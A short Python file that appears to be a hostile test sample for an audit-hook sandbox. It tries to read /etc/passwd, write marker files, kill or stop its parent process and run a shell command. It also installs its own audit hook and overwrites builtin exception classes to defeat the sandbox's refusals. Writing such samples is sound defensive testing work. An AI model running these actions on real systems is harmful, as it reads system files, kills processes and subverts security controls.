"""Adds audit hooks of its own, and replaces the classes of the refusal."""

import builtins
import os
import sys


def try_all():
    for attempt in (
        lambda: open("/etc/passwd").read(),
        lambda: open("hostile_mark", "w").write("x"),
        lambda: os.kill(os.getppid(), 9),
        lambda: os.kill(os.getppid(), 19),
        lambda: os.system("touch /tmp/hostile_mark"),
    ):
        try:
            attempt()
        except BaseException:
            pass


try:
    sys.addaudithook(lambda *_: None)
except BaseException:
    pass
builtins.PermissionError = builtins.ImportError = lambda *_: None
builtins.frozenset = set
try_all()
